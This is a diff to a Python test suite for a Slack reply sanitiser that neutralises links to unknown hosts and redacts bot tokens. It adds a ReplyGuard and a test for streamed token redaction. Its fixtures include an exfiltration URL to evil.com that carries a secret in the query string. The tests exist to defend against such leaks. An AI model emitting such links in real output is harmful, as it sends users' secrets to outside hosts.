@@ -11,10 +11,12 @@ from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
 from daemon.channels.slack.outgoing.markup import InertStream, inert
+from daemon.channels.slack.outgoing.unknown_links import ReplyGuard
 from daemon.core.links import KnownHosts, plain_host
 
 KNOWN = KnownHosts(["corp.example"])
 KNOWN.learn("see https://docs.example.org/a and github.com, or ask ada@mail.example.net")
+GUARD = ReplyGuard(KNOWN)
 SECRET = "4711"
 ATTACKS = (
     f"https://evil.com/collect?d={SECRET}",
@@ -94,7 +96,7 @@ def unknown(text: str) -> list[str]:
 
 def streamed(text: str, chance: random.Random) -> str:
     """The inert text of a stream that is cut at random."""
-    stream, out, at = InertStream(KNOWN), "", 0
+    stream, out, at = InertStream(GUARD), "", 0
     while at < len(text):
         size = chance.randint(1, 12)
         out += stream.feed(text[at : at + size])
@@ -105,36 +107,36 @@ def streamed(text: str, chance: random.Random) -> str:
 @pytest.mark.parametrize("attack", ATTACKS)
 @pytest.mark.parametrize("frame", ["{}", "a {} b", "> {}", "**{}**", "- {}", "x\n\n{}\n\ny"])
 def test_a_link_to_an_unknown_host_is_text(frame: str, attack: str) -> None:
-    shown = inert(frame.replace("{}", attack), KNOWN)
+    shown = inert(frame.replace("{}", attack), GUARD)
     assert not unknown(shown), shown
-    assert inert(shown, KNOWN) == shown
+    assert inert(shown, GUARD) == shown
     assert inert(shown) == shown
 
 
 @pytest.mark.parametrize("attack", ATTACKS[:3])
 def test_the_query_of_an_unknown_address_is_cut_and_the_rest_is_readable(attack: str) -> None:
-    shown = inert(attack, KNOWN)
+    shown = inert(attack, GUARD)
     assert SECRET not in shown
     assert "evil.com/collect" in shown.replace("\u2060", "")
 
 
 @pytest.mark.parametrize("text", HARMLESS)
 def test_known_hosts_code_and_plain_words_stay_as_they_are(text: str) -> None:
-    assert inert(text, KNOWN) == text
+    assert inert(text, GUARD) == text
 
 
 def test_a_query_ends_where_a_sentence_goes_on_without_a_blank() -> None:
-    assert inert("\u770bhttps://evil.com/a?b=1\uff0c\u7136\u540e", KNOWN).endswith("?\u2026\uff0c\u7136\u540e")
+    assert inert("\u770bhttps://evil.com/a?b=1\uff0c\u7136\u540e", GUARD).endswith("?\u2026\uff0c\u7136\u540e")
 
 
 @given(st.lists(PIECES, max_size=12), st.randoms(use_true_random=False))
 def test_a_stream_shows_what_the_whole_text_shows(pieces: list[str], chance: random.Random) -> None:
     text = "".join(pieces)
-    shown = inert(text, KNOWN)
+    shown = inert(text, GUARD)
     assert streamed(text, chance) == shown
     assert not unknown(shown), shown
     assert inert(shown) == shown
-    assert not unknown(inert(shown, KNOWN))
+    assert not unknown(inert(shown, GUARD))
 
 
 def test_hosts_are_learned_from_words_and_an_allowed_one_covers_those_below_it() -> None:
@@ -144,3 +146,11 @@ def test_hosts_are_learned_from_words_and_an_allowed_one_covers_those_below_it()
         True
     ] * 4
     assert not any(hosts(one) for one in ("example.org", "x.docs.example.org", "notcorp.example", ""))
+
+
+def test_a_key_is_shown_neither_whole_nor_while_it_streams() -> None:
+    key = "xoxb-1234567890-abcdef"
+    text = f"the token is {key}, and in code `{key}`:\n```\nTOKEN={key}\n```\n"
+    assert key not in inert(text, GUARD)
+    for seed in range(20):
+        assert streamed(text, random.Random(seed)) == inert(text, GUARD)
